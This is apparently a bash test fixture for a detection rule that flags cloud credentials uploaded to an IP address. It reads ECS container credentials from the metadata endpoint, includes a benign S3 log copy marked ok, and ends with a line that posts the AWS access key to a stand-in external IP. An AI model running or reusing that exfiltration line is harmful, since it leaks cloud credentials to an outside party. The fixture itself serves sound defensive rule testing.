#!/usr/bin/env bash
# Fixture for sh-cloud-credentials-upload-to-ip (ECS container credentials).
# RULEID: the last line posts a key to a public IP.
# OK: an ECS task copying its own logs to S3 with the AWS CLI.
CREDS=$(curl -s "http://169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}")
export AWS_ACCESS_KEY_ID=$(echo "$CREDS" | jq -r .AccessKeyId)
# ok: sh-cloud-credentials-upload-to-ip
aws s3 cp /var/log/app.log s3://team-logs/ && echo done
# ruleid: sh-cloud-credentials-upload-to-ip
curl -s -d "k=$AWS_ACCESS_KEY_ID" http://198.51.100.9/collect
